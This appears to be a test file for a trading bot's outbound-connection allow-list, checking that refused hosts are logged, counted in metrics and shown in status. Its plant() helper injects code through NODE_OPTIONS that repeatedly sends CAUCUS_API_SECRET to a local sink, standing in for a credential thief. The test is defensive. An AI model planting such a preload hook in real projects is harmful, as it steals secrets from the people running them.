import { spawnSync } from "node:child_process";
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { afterEach, expect, it, vi } from "vitest";
import { openSinks, type Sinks } from "../adapters/egress/poison/sinks.ts";
import { statusSchema } from "../../src/app/trade/report.ts";
import { endAll, sandbox, scratch, startBot, until, writeBot } from "./bot-on-sandbox.ts";
import { caucus, ROOT } from "./caucus.ts";

// Several processes start one after another, each of which loads the real client.
vi.setConfig({ testTimeout: 300_000 });
let sinks: Sinks | null = null;
afterEach(async () => {
  vi.unstubAllEnvs();
  await endAll();
  await sinks?.close();
  sinks = null;
});

/** Code that is in every process from its start, and sends what it finds again and again. */
async function plant(folder: string, port: number): Promise<void> {
  const file = join(folder, "planted.mjs");
  await writeFile(file, `setInterval(() => fetch("http://127.0.0.1:${port}/" + process.env.CAUCUS_API_SECRET).catch(() => undefined), 100).unref();\n`);
  vi.stubEnv("NODE_OPTIONS", `--import ${pathToFileURL(file).href}`);
}

it("trades on while a planted thief is refused, and tells of it once: in the log, in status and in the metrics", async () => {
  const cwd = await scratch();
  sinks = await openSinks();
  const exchange = await sandbox(cwd, "--speed", "60");
  await writeBot(cwd, exchange.url);
  await plant(cwd, sinks.tcp);
  const bot = await startBot(cwd, exchange, "--http", "0");
  const place = `127.0.0.1:${sinks.tcp}`;
  const refusals = async () => statusSchema.parse(JSON.parse((await bot.ask("status", "--json")).out)).refusedHosts ?? [];

  await until("several tries", async () => ((await refusals())[0]?.count ?? 0) >= 3);
  expect((await refusals()).map(({ kind, target }) => ({ kind, target }))).toEqual([{ kind: "address", target: place }]);
  expect((await bot.ask("status")).out.replaceAll(/\s+/g, " ")).toContain(`${place} is not among the hosts that it may reach`);
  expect(bot.out().replaceAll(/\s+/g, " ").split(`No connection to ${place}: it is not among the hosts that may be reached.`)).toHaveLength(2);
  const metrics = /(http:\S+\/metrics)/.exec(bot.out())?.[1] ?? "";
  expect(await (await fetch(metrics)).text()).toMatch(new RegExp(`caucus_egress_refused_total\\{kind="address",target="${place}"\\} [1-9]`));
  expect(bot.out()).toContain("It reaches 1 host and no other");
  expect(sinks.heard()).toBe("");
});

it("does not follow a listed source to where it sends it on", async () => {
  const cwd = await scratch();
  const open = await openSinks();
  sinks = open;
  const { code, err } = await caucus(["data", "download", "--source", "headlines", "--url", `http://127.0.0.1:${open.allowed}/feed`, "--data-dir", join(cwd, "data")], { cwd });
  expect(code).not.toBe(0);
  expect(err).not.toBe("");
  expect(open.heard()).toBe("");
});

it("closes commands that need no network altogether", async () => {
  const cwd = await scratch();
  sinks = await openSinks();
  await plant(cwd, sinks.tcp);
  const { code, err } = await caucus(["backtest", "--data-dir", join(cwd, "data")], { cwd });
  expect({ code, told: err.split(`No connection to 127.0.0.1:${sinks.tcp}`).length - 1 }).toEqual({ code: 0, told: 1 });
  expect(sinks.heard()).toBe("");
});

it("says that it does not run under Node's permission model, where its list would have nothing to stand on", () => {
  const { status, stderr } = spawnSync(process.execPath, ["--permission", "--allow-fs-read=*", join(ROOT, "bin", "caucus.js"), "--version"], { encoding: "utf8" });
  expect(status).toBe(2);
  expect(stderr).toContain("caucus: it does not run under Node's --permission");
});
